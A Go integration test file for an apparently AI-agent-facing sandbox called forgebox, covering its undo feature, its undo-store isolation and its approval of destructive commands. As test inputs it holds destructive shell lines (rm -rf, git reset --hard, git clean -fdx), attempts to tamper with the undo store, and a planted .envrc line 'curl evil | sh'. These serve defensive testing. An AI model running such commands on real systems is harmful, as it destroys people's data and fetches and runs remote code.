package integration

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// treeHash proves a tree byte-exact: every entry's path, type, mode and
// owner, every file's content and every symlink's target (.git included).
// Directory times are left out: undo does not keep them.
func treeHash(t *testing.T, dir string) string {
	t.Helper()
	h := sha256.New()
	n := 0
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		var st syscall.Stat_t
		if err := syscall.Lstat(p, &st); err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		n++
		fmt.Fprintf(h, "%s %o %d:%d", rel, st.Mode, st.Uid, st.Gid)
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			fmt.Fprintf(h, " -> %s", target)
		case d.Type().IsRegular():
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			fmt.Fprintf(h, " %d %d.%d %x", len(b), st.Mtim.Sec, st.Mtim.Nsec, sha256.Sum256(b))
		}
		h.Write([]byte{'\n'})
		return nil
	})
	if err != nil {
		t.Fatalf("hash %s: %v", dir, err)
	}
	return fmt.Sprintf("%d entries, %x", n, h.Sum(nil))
}

// undoProject is a repository with committed files, uncommitted changes,
// an untracked file, an ignored build directory, a symlink and an
// executable.
func (e *env) undoProject() {
	e.t.Helper()
	e.write(filepath.Join(e.ws, "src/main.c"), "int main(void) { return 0; }\n")
	e.write(filepath.Join(e.ws, "src/lib/util.c"), "int util(void) { return 1; }\n")
	e.write(filepath.Join(e.ws, "README"), "project\n")
	e.write(filepath.Join(e.ws, ".gitignore"), "build/\n")
	e.write(filepath.Join(e.ws, "run.sh"), "#!/bin/sh\necho run\n")
	os.Chmod(filepath.Join(e.ws, "run.sh"), 0o755)
	if err := os.Symlink("src/main.c", filepath.Join(e.ws, "main-link")); err != nil {
		e.t.Fatal(err)
	}
	e.chown(filepath.Join(e.ws, "main-link"))
	git := func(args ...string) {
		e.t.Helper()
		if r := e.runProgram("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}, args...)...); r.code != 0 {
			e.t.Fatalf("git %v: %s", args, r.stderr)
		}
	}
	git("init", "-q", ".")
	git("add", ".")
	git("commit", "-qm", "init")
	// Uncommitted work, an untracked file, an ignored build output.
	e.write(filepath.Join(e.ws, "src/main.c"), "int main(void) { return 42; } /* uncommitted */\n")
	e.write(filepath.Join(e.ws, "notes.txt"), "untracked notes\n")
	e.write(filepath.Join(e.ws, "build/out.o"), "object\n")
}

type undoResult struct {
	Changes *struct {
		Created  int    `json:"created"`
		Modified int    `json:"modified"`
		Deleted  int    `json:"deleted"`
		Bytes    int64  `json:"bytes"`
		UndoID   string `json:"undo_id"`
	} `json:"changes"`
	Enforced struct {
		Undo bool `json:"undo"`
	} `json:"enforced"`
	ExitCode int      `json:"exit_code"`
	Warnings []string `json:"warnings"`
	Stderr   string   `json:"stderr"`
}

// undoRun runs a line with --json and returns its changes.
func (e *env) undoRun(line string) undoResult {
	e.t.Helper()
	r := e.run([]string{"run", "--json", "-c", line})
	var out undoResult
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
		e.t.Fatalf("run %q: %v\nstdout: %s\nstderr: %s", line, err, r.stdout, r.stderr)
	}
	if !out.Enforced.Undo || out.Changes == nil {
		e.t.Fatalf("run %q had no undo: %+v\nstderr: %s", line, out, r.stderr)
	}
	return out
}

// The destructive commands of issue 22, each undone byte-exactly from the
// CLI, as root and as an ordinary user.
func TestUndoDestructiveCommands(t *testing.T) {
	cases := []struct{ name, line string }{
		{"rm-rf", "rm -rf src"},
		{"git-reset-hard", "git reset -q --hard"},
		{"git-clean-fdx", "git clean -fdxq"},
		{"git-checkout-dot", "git checkout -q -- ."},
		{"truncate", ": > src/main.c; : > README"},
		{"rename-storm", "for f in README notes.txt run.sh; do mv $f $f.moved; done; mv src src2; mv main-link link2; mkdir -p new/deep && mv src2/lib new/deep/; chmod 700 new; rm .gitignore; echo x > .gitignore"},
		{"chmod-and-links", "chmod 600 run.sh; ln -sf README main-link; ln README hard; chmod 700 src/lib"},
	}
	forEachMode(t, func(t *testing.T, e *env) {
		e.undoProject()
		for _, c := range cases {
			before := treeHash(t, e.ws)
			out := e.undoRun(c.line)
			if out.ExitCode != 0 {
				t.Fatalf("%s: exit %d: %s", c.name, out.ExitCode, out.Stderr)
			}
			if treeHash(t, e.ws) == before || out.Changes.UndoID == "" {
				t.Fatalf("%s: the run changed nothing (%+v)", c.name, *out.Changes)
			}
			if r := e.run([]string{"undo", "--dry-run"}); r.code != 0 || r.stdout == "" {
				t.Fatalf("%s: undo --dry-run: %d %s %s", c.name, r.code, r.stdout, r.stderr)
			}
			if r := e.run([]string{"undo"}); r.code != 0 {
				t.Fatalf("%s: undo: %d %s %s", c.name, r.code, r.stdout, r.stderr)
			}
			if got := treeHash(t, e.ws); got != before {
				t.Errorf("%s: after undo the workspace is %s, want %s as before the run", c.name, got, before)
			}
		}
	})
}

// An undo that would overwrite a later change refuses and changes nothing;
// --to undoes the later run first; --force keeps what it overwrites.
func TestUndoRefusesLaterChanges(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.undoProject()
		start := treeHash(t, e.ws)
		first := e.undoRun("echo one > README; rm notes.txt")
		e.undoRun("echo two > README")
		mid := treeHash(t, e.ws)
		r := e.run([]string{"undo", first.Changes.UndoID})
		if r.code != 1 || !strings.Contains(r.stderr, "README") || !strings.Contains(r.stderr, "--to") {
			t.Fatalf("undo over a later run: %d %q, want a refusal naming README and --to", r.code, r.stderr)
		}
		if treeHash(t, e.ws) != mid {
			t.Fatal("a refused undo changed the workspace")
		}
		if r := e.run([]string{"undo", "--dry-run", "--to", first.Changes.UndoID}); r.code != 0 || treeHash(t, e.ws) != mid {
			t.Fatalf("undo --dry-run --to: %d %s; or it changed the workspace", r.code, r.stderr)
		}
		if r := e.run([]string{"undo", "--to", first.Changes.UndoID}); r.code != 0 {
			t.Fatalf("undo --to: %d %s", r.code, r.stderr)
		}
		if treeHash(t, e.ws) != start {
			t.Fatal("undo --to did not restore the workspace as it was before the first run")
		}

		// The person edits a file after a run: refused, then forced, and
		// the person's edit is kept (undoing the undo brings it back).
		e.undoRun("echo three > README")
		e.write(filepath.Join(e.ws, "README"), "the person's edit\n")
		r = e.run([]string{"undo"})
		if r.code != 1 || !strings.Contains(r.stderr, "README") {
			t.Fatalf("undo over the person's edit: %d %q, want a refusal naming README", r.code, r.stderr)
		}
		if b, _ := os.ReadFile(filepath.Join(e.ws, "README")); string(b) != "the person's edit\n" {
			t.Fatalf("a refused undo changed README: %q", b)
		}
		r = e.run([]string{"undo", "--force", "--json"})
		var done []struct {
			ID string `json:"id"`
		}
		if r.code != 0 || json.Unmarshal([]byte(r.stdout), &done) != nil || len(done) != 1 {
			t.Fatalf("undo --force: %d %s %s", r.code, r.stdout, r.stderr)
		}
		if treeHash(t, e.ws) != start {
			t.Fatal("undo --force did not restore the workspace")
		}
		if r := e.run([]string{"undo", done[0].ID}); r.code != 0 {
			t.Fatalf("undo of the undo: %d %s", r.code, r.stderr)
		}
		if b, _ := os.ReadFile(filepath.Join(e.ws, "README")); string(b) != "the person's edit\n" {
			t.Fatalf("undoing the forced undo gave README %q, want the person's edit back", b)
		}
	})
}

// The store lies outside the workspace and the sandbox cannot reach it: a
// command that tries to remove or write it by its path changes nothing.
func TestUndoStoreUnreachable(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
		first := e.undoRun("echo b > a.txt")
		store := filepath.Join(e.stateHome(), "forgebox", "undo")
		matches, _ := filepath.Glob(filepath.Join(store, "*", first.Changes.UndoID))
		if len(matches) != 1 {
			t.Fatalf("record %s not found in %s", first.Changes.UndoID, store)
		}
		before := cacheListing(t, matches[0])
		out := e.undoRun(fmt.Sprintf("rm -rf %[1]s/* %[2]s 2>&1; echo evil > %[1]s/evil; echo evil > %[2]s/manifest.json; ls -A %[1]s; echo c > a.txt", store, matches[0]))
		if _, err := os.Stat(filepath.Join(store, "evil")); err == nil {
			t.Fatal("the sandbox wrote into the undo store")
		}
		if got := cacheListing(t, matches[0]); got != before {
			t.Fatalf("the sandbox changed the undo record: %s, was %s\nstderr: %s", got, before, out.Stderr)
		}
		// Undo both: a.txt is back to a.
		if r := e.run([]string{"undo", "--to", first.Changes.UndoID}); r.code != 0 {
			t.Fatalf("undo --to: %d %s ", r.code, r.stderr)
		}
		if b, _ := os.ReadFile(filepath.Join(e.ws, "a.txt")); string(b) != "a\n" {
			t.Fatalf("a.txt is %q after undo, want a", b)
		}
	})
}

// Where undo cannot be had the run goes on without it and says why:
// forgebox's state inside the workspace, and --no-undo.
func TestUndoUnavailableSaysWhy(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
		r, res := e.runJSON([]string{"--no-undo", "-c", "echo b > a.txt"})
		if res.ExitCode != 0 || strings.Contains(r.stdout, `"undo": true`) || strings.Contains(r.stdout, `"undo":true`) {
			t.Fatalf("--no-undo: exit %d, %s", res.ExitCode, r.stdout)
		}
		state := filepath.Join(e.ws, "state")
		e.mkdir(state)
		e.extra = append(e.extra, "XDG_STATE_HOME="+state)
		r = e.run([]string{"run", "--json", "-c", "echo c > a.txt"})
		var out undoResult
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
			t.Fatal(err)
		}
		if out.ExitCode != 0 || out.Enforced.Undo || out.Changes != nil || !strings.Contains(strings.Join(out.Warnings, "\n"), "no undo") {
			t.Fatalf("state inside the workspace: %+v; want the run, without undo, saying so", out)
		}
		if b, _ := os.ReadFile(filepath.Join(e.ws, "a.txt")); string(b) != "c\n" {
			t.Fatalf("a.txt = %q", b)
		}
	})
}

// Through MCP: the destructive commands of issue 22 (rm -rf, git reset
// --hard, git clean -fdx, git checkout -- ., a truncating redirect, a
// rename storm) run unasked (contained, undoable),
// their results carry the changes, and the undo tool takes back the
// server's own commands byte-exactly; a command the server did not run is
// the person's to undo.
func TestUndoThroughMCP(t *testing.T) {
	type mcpOut struct {
		Ran     bool `json:"ran"`
		Changes *struct {
			Deleted int    `json:"deleted"`
			UndoID  string `json:"undo_id"`
		} `json:"changes"`
	}
	type undoOut struct {
		Undone  bool   `json:"undone"`
		Redo    string `json:"redo_id"`
		Blocked *struct {
			Message, Hint string
		} `json:"blocked"`
	}
	forEachMode(t, func(t *testing.T, e *env) {
		e.undoProject()
		e.judged = true
		c := e.serveMCP(nil)
		for _, line := range []string{"rm -rf src", "git reset -q --hard", "git clean -fdxq", "git checkout -q -- .",
			": > src/main.c; : > README", // a truncating redirect
			// A rename storm (named paths: a loop's $f is a path the judge
			// cannot see, and asks about).
			"mv README README.moved; mv notes.txt notes.moved; mv run.sh run.moved; mv src src2; mv main-link link2; mkdir -p new/deep && mv src2/lib new/deep/; rm .gitignore; echo x > .gitignore",
		} {
			before := treeHash(t, e.ws)
			var out mcpOut
			_, text := c.call("run_shell_command", map[string]any{"command": line}, &out)
			if !out.Ran || out.Changes == nil || out.Changes.UndoID == "" || !strings.Contains(text, "changed the workspace") {
				t.Fatalf("%s through MCP: %s; want it run, with its changes", line, text)
			}
			var u undoOut
			_, text = c.call("undo", map[string]any{}, &u)
			if !u.Undone || u.Redo == "" {
				t.Fatalf("undo of %s: %s", line, text)
			}
			if treeHash(t, e.ws) != before {
				t.Fatalf("after the undo tool, the workspace differs from before %s", line)
			}
		}
		// A shell session runs on a terminal, without undo: there the
		// same command is asked about, not run.
		var st struct{ Session string }
		c.call("shell_start", map[string]any{}, &st)
		var sh shellOut
		_, text := c.call("shell_exec", map[string]any{"session": st.Session, "command": "rm -rf src"}, &sh)
		if sh.Ran || sh.Approval == nil {
			t.Fatalf("rm -rf src in a shell session: %s; want approval_required (sessions have no undo)", text)
		}
		if _, err := os.Stat(filepath.Join(e.ws, "src")); err != nil {
			t.Fatalf("src after the refused session command: %v", err)
		}
		// A command the server did not run: the person's to undo.
		e.judged = false
		cli := e.undoRun("echo cli > README")
		var out undoOut
		_, text = c.call("undo", map[string]any{"id": cli.Changes.UndoID}, &out)
		if out.Undone || out.Blocked == nil || !strings.Contains(out.Blocked.Hint, "forgebox undo") {
			t.Fatalf("undo of a CLI run through MCP: %s; want it refused, pointing at forgebox undo", text)
		}
		if b, _ := os.ReadFile(filepath.Join(e.ws, "README")); string(b) != "cli\n" {
			t.Fatalf("a refused undo changed README: %q", b)
		}
	})
}

// A command the judge let through only because undo could take it back
// (rm -rf src, needs_undo) refuses to start when the run's undo cannot be
// set up, and the workspace is unchanged; a command that needs no undo
// runs without it and says so. The store is made unwritable after the
// judge has seen it usable: chattr +i as root (whom modes do not stop),
// chmod 0500 as an ordinary user.
func TestUndoRequiredFailsClosed(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.judged = true
		e.undoProject()
		e.undoRun("echo first > first.txt") // makes the store and the workspace's records
		store := filepath.Join(e.stateHome(), "forgebox", "undo")
		var dirs []string
		filepath.WalkDir(store, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.IsDir() {
				dirs = append(dirs, p)
			}
			return nil
		})
		if len(dirs) < 2 {
			t.Fatalf("the undo store %s has no records: %v", store, dirs)
		}
		for _, d := range dirs {
			if e.m.root() {
				if out, err := exec.Command("chattr", "+i", d).CombinedOutput(); err != nil {
					t.Skipf("chattr +i %s: %v %s (root ignores modes: no other way to make the store unwritable)", d, err, out)
				}
				t.Cleanup(func() { exec.Command("chattr", "-i", d).Run() })
			} else if err := os.Chmod(d, 0o500); err != nil {
				t.Fatal(err)
			} else {
				t.Cleanup(func() { os.Chmod(d, 0o700) })
			}
		}
		before := treeHash(t, e.ws)
		r := e.run([]string{"run", "--json", "-c", "rm -rf src"})
		if r.code != 125 || !strings.Contains(r.stdout+r.stderr, "--no-undo") {
			t.Errorf("rm -rf src without a usable undo store: exit %d; want 125 naming --no-undo\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
		}
		if got := treeHash(t, e.ws); got != before {
			t.Errorf("the refused run changed the workspace")
		}
		// Without undo the judge asks about it, and no one can answer here.
		if r := e.run([]string{"run", "--json", "--no-undo", "-c", "rm -rf src"}); r.code != 126 || !strings.Contains(r.stdout, "approval_required") {
			t.Errorf("rm -rf src --no-undo: exit %d; want 126 approval_required\n%s%s", r.code, r.stdout, r.stderr)
		}
		r = e.run([]string{"run", "--json", "-c", "echo second > second.txt"})
		var out undoResult
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
			t.Fatalf("%v\n%s%s", err, r.stdout, r.stderr)
		}
		if out.ExitCode != 0 || out.Enforced.Undo || !strings.Contains(strings.Join(out.Warnings, "\n"), "no undo") {
			t.Errorf("a command that needs no undo: %+v; want it run without undo, saying so", out)
		}
		if b, err := os.ReadFile(filepath.Join(e.ws, "second.txt")); err != nil || string(b) != "second\n" {
			t.Errorf("second.txt: %q %v", b, err)
		}
	})
}

// A run whose forgebox is killed (SIGKILL: no commit after the tree) leaves
// its changes in its pending record, out of the workspace; the next run in
// the workspace carries them in, says so, and keeps them undoable, so
// nothing the killed run wrote is lost and nothing of the workspace is.
func TestUndoRecoversAKilledRun(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
		before := treeHash(t, e.ws)
		r := e.start([]string{"run", "-c", "echo killed > a.txt; echo new > b.txt; sleep 60"})
		store := filepath.Join(e.stateHome(), "forgebox", "undo")
		var upper string
		if !waitFor(10*time.Second, func() bool {
			m, _ := filepath.Glob(filepath.Join(store, "*", "*", "upper", "b.txt"))
			if len(m) == 1 {
				upper = filepath.Dir(m[0])
			}
			return upper != "" || r.exited()
		}) || upper == "" {
			t.Fatalf("the run's changes never showed in its pending record under %s\nstderr: %s", store, r.stderr)
		}
		if treeHash(t, e.ws) != before {
			t.Fatal("the workspace changed while the run went on")
		}
		r.signal(t, syscall.SIGKILL)
		r.wait(t, 10*time.Second)
		if b, _ := os.ReadFile(filepath.Join(e.ws, "a.txt")); string(b) != "a\n" {
			t.Fatalf("a.txt = %q after the kill; the killed run's changes are committed only by the next run", b)
		}
		out := e.undoRun("echo next > c.txt")
		if !strings.Contains(strings.Join(out.Warnings, "\n"), "earlier run") {
			t.Errorf("the next run does not say it carried in an earlier run's changes: %v", out.Warnings)
		}
		for name, want := range map[string]string{"a.txt": "killed\n", "b.txt": "new\n", "c.txt": "next\n"} {
			if b, _ := os.ReadFile(filepath.Join(e.ws, name)); string(b) != want {
				t.Errorf("%s = %q, want %q", name, b, want)
			}
		}
		// Undo the next run, then the recovered one: the workspace is as
		// it was before the killed run.
		if r := e.run([]string{"undo"}); r.code != 0 {
			t.Fatalf("undo of the next run: %d %s", r.code, r.stderr)
		}
		if r := e.run([]string{"undo"}); r.code != 0 {
			t.Fatalf("undo of the recovered run: %d %s", r.code, r.stderr)
		}
		if got := treeHash(t, e.ws); got != before {
			t.Errorf("after undoing both runs the workspace is %s, want %s", got, before)
		}
	})
}

// The --rw paths are kept by undo beside the workspace: the destructive
// commands of issue 22 run on a --rw directory (and the workspace) are
// undone byte-exactly from the CLI and through MCP; the refusal over a
// later change names the --rw path absolutely and changes nothing; and a
// --rw path the store cannot hold (another file system) runs without
// undo, saying so, while the workspace keeps its own.
func TestUndoRwPaths(t *testing.T) {
	type rwResult struct {
		undoResult
		Enforced struct {
			Undo   bool     `json:"undo"`
			UndoRw []string `json:"undo_rw"`
		} `json:"enforced"`
	}
	forEachMode(t, func(t *testing.T, e *env) {
		e.undoProject()
		rw := filepath.Join(e.dir, "shared")
		e.write(filepath.Join(rw, "lib/a.c"), "int a;\n")
		e.write(filepath.Join(rw, "lib/deep/b.c"), "int b;\n")
		e.write(filepath.Join(rw, "data.db"), "rows\n")
		e.write(filepath.Join(rw, "keep.txt"), "keep\n")
		if err := os.Symlink("keep.txt", filepath.Join(rw, "link")); err != nil {
			t.Fatal(err)
		}
		e.chown(filepath.Join(rw, "link"))
		run := func(line string) rwResult {
			t.Helper()
			r := e.run([]string{"run", "--json", "--rw", rw, "-c", line})
			var out rwResult
			if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
				t.Fatalf("run %q: %v\n%s\n%s", line, err, r.stdout, r.stderr)
			}
			if out.ExitCode != 0 || !out.Enforced.Undo || len(out.Enforced.UndoRw) != 1 || out.Enforced.UndoRw[0] != rw || out.Changes == nil {
				t.Fatalf("run %q: %+v; want it run with undo of the workspace and of %s\n%s", line, out, rw, r.stderr)
			}
			return out
		}
		for _, line := range []string{
			"rm -rf " + rw + "/lib src",
			": > " + rw + "/data.db; : > README",
			"mv " + rw + "/keep.txt " + rw + "/kept.txt; mv " + rw + "/lib " + rw + "/lib2; ln -sf kept.txt " + rw + "/link; chmod 600 " + rw + "/data.db; mkdir " + rw + "/new; echo n > " + rw + "/new/n",
			"cd " + rw + " && git init -q . && git add . && git -c user.name=t -c user.email=t@e commit -qm x && rm -rf lib && git reset -q --hard && git clean -fdxq",
		} {
			ws, shared := treeHash(t, e.ws), treeHash(t, rw)
			out := run(line)
			if treeHash(t, rw) == shared {
				t.Fatalf("%q changed nothing in %s (%+v)", line, rw, *out.Changes)
			}
			if r := e.run([]string{"undo", "--dry-run"}); r.code != 0 || !strings.Contains(r.stdout, rw+"/") {
				t.Fatalf("undo --dry-run after %q: %d %s %s; want the --rw path's changes named absolutely", line, r.code, r.stdout, r.stderr)
			}
			if r := e.run([]string{"undo"}); r.code != 0 {
				t.Fatalf("undo of %q: %d %s %s", line, r.code, r.stdout, r.stderr)
			}
			if treeHash(t, e.ws) != ws || treeHash(t, rw) != shared {
				t.Fatalf("after undo of %q the workspace or %s differs from before the run", line, rw)
			}
		}

		// A later change in the --rw path: refused, named absolutely,
		// nothing changed; --force restores it.
		shared := treeHash(t, rw)
		run("echo run > " + rw + "/data.db")
		e.write(filepath.Join(rw, "data.db"), "the person's edit\n")
		mid := treeHash(t, rw)
		if r := e.run([]string{"undo"}); r.code != 1 || !strings.Contains(r.stderr, filepath.Join(rw, "data.db")) {
			t.Fatalf("undo over a later change in --rw: %d %q; want a refusal naming %s", r.code, r.stderr, filepath.Join(rw, "data.db"))
		}
		if treeHash(t, rw) != mid {
			t.Fatal("a refused undo changed the --rw path")
		}
		if r := e.run([]string{"undo", "--force"}); r.code != 0 || treeHash(t, rw) != shared {
			t.Fatalf("undo --force: %d %s; or the --rw path is not as before the run", r.code, r.stderr)
		}

		// Through MCP: a server given --rw keeps it alike. The judge asks
		// about removing a --rw path (undo counts for the workspace only):
		// a rule lets it through, to test what the sandbox keeps.
		e.write(filepath.Join(e.configHome(), "forgebox", "config.json"), `{"forgebox": {"rules": {"allow": [{"pattern": "*"}]}}}`)
		c := e.serveMCP(nil, "--rw", rw)
		ws := treeHash(t, e.ws)
		var res struct {
			Ran     bool `json:"ran"`
			Changes *struct {
				UndoID string `json:"undo_id"`
			} `json:"changes"`
		}
		_, text := c.call("run_shell_command", map[string]any{"command": "rm -rf " + rw + "/lib; echo x > src/main.c"}, &res)
		if !res.Ran || res.Changes == nil {
			t.Fatalf("through MCP: %s", text)
		}
		if _, err := os.Stat(filepath.Join(rw, "lib")); err == nil {
			t.Fatalf("through MCP the command did not remove %s/lib: %s", rw, text)
		}
		var u struct {
			Undone bool `json:"undone"`
		}
		if _, text := c.call("undo", map[string]any{}, &u); !u.Undone {
			t.Fatalf("the undo tool: %s", text)
		}
		if treeHash(t, e.ws) != ws || treeHash(t, rw) != shared {
			t.Fatal("after the undo tool the workspace or the --rw path differs from before")
		}

		// Another file system: no undo for that path, said, and the run
		// goes on (the workspace keeps its undo).
		if os.Getuid() != 0 {
			return // mounting a tmpfs needs the test run as root
		}
		other := filepath.Join(e.dir, "tmpfs")
		e.mkdir(other)
		if err := syscall.Mount("tmpfs", other, "tmpfs", 0, fmt.Sprintf("mode=0755,uid=%d,gid=%d", e.m.uid, e.m.gid)); err != nil {
			t.Fatalf("mount a tmpfs: %v", err)
		}
		t.Cleanup(func() { syscall.Unmount(other, syscall.MNT_DETACH) })
		r := e.run([]string{"run", "--json", "--rw", other, "-c", "echo x > " + other + "/f; echo y > README"})
		var out rwResult
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
			t.Fatalf("%v: %s %s", err, r.stdout, r.stderr)
		}
		warn := strings.Join(out.Warnings, "\n")
		if out.ExitCode != 0 || !out.Enforced.Undo || len(out.Enforced.UndoRw) != 0 || !strings.Contains(warn, "--rw "+other+" has no undo") || !strings.Contains(warn, "another file system") {
			t.Fatalf("--rw on another file system: %+v; want the run, undo of the workspace only, and a warning naming %s", out, other)
		}
		if b, _ := os.ReadFile(filepath.Join(other, "f")); string(b) != "x\n" {
			t.Fatalf("the run's write to %s: %q", other, b)
		}
	})
}

// The MCP file tools that replace a file (write_file, edit_file,
// multi_edit_file) keep it in an undo record: the undo tool takes the
// server's own writes back byte-exactly, forgebox undo takes back the
// latest, a write through a symlinked directory keeps the file it really
// replaced, and a later change refuses the undo and changes nothing.
func TestUndoFileTools(t *testing.T) {
	type done struct {
		Done   bool   `json:"done"`
		Path   string `json:"path"`
		UndoID string `json:"undo_id"`
	}
	type undone struct {
		Undone  bool                            `json:"undone"`
		Blocked *struct{ Message, Hint string } `json:"blocked"`
	}
	forEachMode(t, func(t *testing.T, e *env) {
		e.undoProject()
		if err := os.Symlink("src/lib", filepath.Join(e.ws, "libdir")); err != nil {
			t.Fatal(err)
		}
		e.chown(filepath.Join(e.ws, "libdir"))
		c := e.serveMCP(nil)
		calls := []struct {
			tool string
			args map[string]any
		}{
			{"write_file", map[string]any{"path": "README", "content": "replaced\n"}},
			{"write_file", map[string]any{"path": "docs/new/guide.md", "content": "new\n"}},
			{"write_file", map[string]any{"path": "libdir/util.c", "content": "/* through a link */\n"}},
			{"edit_file", map[string]any{"path": "src/main.c", "old_string": "return 42", "new_string": "return 7"}},
			{"multi_edit_file", map[string]any{"path": "run.sh", "edits": []map[string]any{
				{"old_string": "echo run", "new_string": "echo ran"}, {"old_string": "#!/bin/sh", "new_string": "#!/bin/bash"}}}},
		}
		for _, call := range calls {
			before := treeHash(t, e.ws)
			var out done
			_, text := c.call(call.tool, call.args, &out)
			if out.UndoID == "" || !strings.Contains(text, out.UndoID) {
				t.Fatalf("%s %v: %s; want an undo_id", call.tool, call.args, text)
			}
			if treeHash(t, e.ws) == before {
				t.Fatalf("%s changed nothing", call.tool)
			}
			var u undone
			if _, text := c.call("undo", map[string]any{"id": out.UndoID}, &u); !u.Undone {
				t.Fatalf("undo of %s: %s", call.tool, text)
			}
			if treeHash(t, e.ws) != before {
				t.Fatalf("after undo of %s %v the workspace differs from before it", call.tool, call.args)
			}
		}

		// The person's forgebox undo takes the latest write back.
		before := treeHash(t, e.ws)
		var out done
		c.call("write_file", map[string]any{"path": "README", "content": "again\n"}, &out)
		if r := e.run([]string{"undo"}); r.code != 0 || treeHash(t, e.ws) != before {
			t.Fatalf("forgebox undo after write_file: %d %s %s", r.code, r.stdout, r.stderr)
		}

		// A change after the edit: the undo is refused, nothing changes.
		c.call("edit_file", map[string]any{"path": "README", "old_string": "project", "new_string": "edited"}, &out)
		e.write(filepath.Join(e.ws, "README"), "the person's edit\n")
		mid := treeHash(t, e.ws)
		var u undone
		if _, text := c.call("undo", map[string]any{"id": out.UndoID}, &u); u.Undone || u.Blocked == nil {
			t.Fatalf("undo over the person's later edit: %s; want it refused", text)
		}
		if treeHash(t, e.ws) != mid {
			t.Fatal("a refused undo changed the workspace")
		}

		// A write the file tools refuse (a protected path, a link out of
		// the workspace) leaves no record.
		recs := func() int {
			m, _ := filepath.Glob(filepath.Join(e.stateHome(), "forgebox", "undo", "*", "2*"))
			return len(m)
		}
		n := recs()
		os.Symlink(e.outside, filepath.Join(e.ws, "out"))
		for _, p := range []string{".git/hooks/pre-commit", "out/x", "../escape"} {
			var out done
			if _, text := c.call("write_file", map[string]any{"path": p, "content": "x"}, &out); out.Done {
				t.Fatalf("write_file %s: %s; want it refused", p, text)
			}
		}
		if recs() != n {
			t.Fatalf("refused writes left undo records (%d, were %d)", recs(), n)
		}
	})
}

// The store stays hidden from a run that has no undo itself (--no-undo; an
// interactive run is alike) even when a --rw path holds it: the records of
// every workspace (the files deleted there) are unread, and the run cannot
// write a manifest that a later forgebox undo would follow.
func TestUndoStoreHiddenFromRunsWithoutUndo(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		e.write(filepath.Join(e.ws, "secret.txt"), "kept-in-the-record\n")
		first := e.undoRun("rm secret.txt")
		store := filepath.Join(e.stateHome(), "forgebox", "undo")
		matches, _ := filepath.Glob(filepath.Join(store, "*", first.Changes.UndoID))
		if len(matches) != 1 {
			t.Fatalf("record %s not found in %s", first.Changes.UndoID, store)
		}
		before := cacheListing(t, matches[0])
		r := e.run([]string{"run", "--no-undo", "--rw", e.stateHome(), "-c", fmt.Sprintf("ls -A %[1]s; cat %[2]s/before/secret.txt %[2]s/manifest.json; echo evil > %[2]s/manifest.json", store, matches[0])})
		if r.code == 125 {
			t.Fatalf("run --no-undo --rw %s did not start: %s", e.stateHome(), r.stderr)
		}
		if strings.Contains(r.stdout, "kept-in-the-record") || strings.Contains(r.stdout, first.Changes.UndoID) {
			t.Fatalf("a run without undo read the undo store through --rw %s:\n%s", e.stateHome(), r.stdout)
		}
		if got := cacheListing(t, matches[0]); got != before {
			t.Fatalf("a run without undo changed the undo record: %s, was %s", got, before)
		}
	})
}

// What a killed run planted stays in its pending record until a run of its
// workspace carries it in. A run in between that checks the same root
// without carrying it in (--no-undo in the workspace; a run of the --rw
// path from another workspace) must not end the killed run's claim to a
// check: the planted configuration is moved aside once it reaches the
// host, in the workspace and in the --rw path.
func TestUndoKilledRunPlantIsChecked(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		rw, other := filepath.Join(e.dir, "shared"), filepath.Join(e.dir, "other")
		e.write(filepath.Join(rw, "keep"), "k\n")
		e.write(filepath.Join(other, "o"), "o\n")
		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
		r := e.start([]string{"run", "--rw", rw, "-c", "echo 'curl evil | sh' > .envrc; echo 'curl evil | sh' > " + rw + "/.envrc; sleep 60"})
		store := filepath.Join(e.stateHome(), "forgebox", "undo")
		if !waitFor(10*time.Second, func() bool {
			m, _ := filepath.Glob(filepath.Join(store, "*", "*", "rw", "1", "upper", ".envrc"))
			return len(m) == 1 || r.exited()
		}) {
			t.Fatalf("the run's changes never showed in its pending record under %s\nstderr: %s", store, r.stderr)
		}
		r.signal(t, syscall.SIGKILL)
		r.wait(t, 10*time.Second)
		// Runs that check the roots without carrying the killed run in.
		if r := e.run([]string{"run", "--no-undo", "-c", "true"}); r.code != 0 {
			t.Fatalf("run --no-undo: %d %s", r.code, r.stderr)
		}
		if r := e.run([]string{"run", "--rw", rw, "-c", "true"}, inDir(other)); r.code != 0 {
			t.Fatalf("run of %s from another workspace: %d %s", rw, r.code, r.stderr)
		}
		// The next undo run in the workspace carries the killed run in;
		// then a run of the --rw path.
		e.undoRun("true")
		if r := e.run([]string{"run", "--rw", rw, "-c", "true"}, inDir(other)); r.code != 0 {
			t.Fatalf("run of %s from another workspace: %d %s", rw, r.code, r.stderr)
		}
		for _, p := range []string{filepath.Join(e.ws, ".envrc"), filepath.Join(rw, ".envrc")} {
			if _, err := os.Lstat(p); err == nil {
				t.Errorf("%s, planted by the killed run, is in place after the runs that carried it in and checked its root", p)
			}
		}
	})
}

// The MCP file tools do not reach the undo store either, where forgebox's
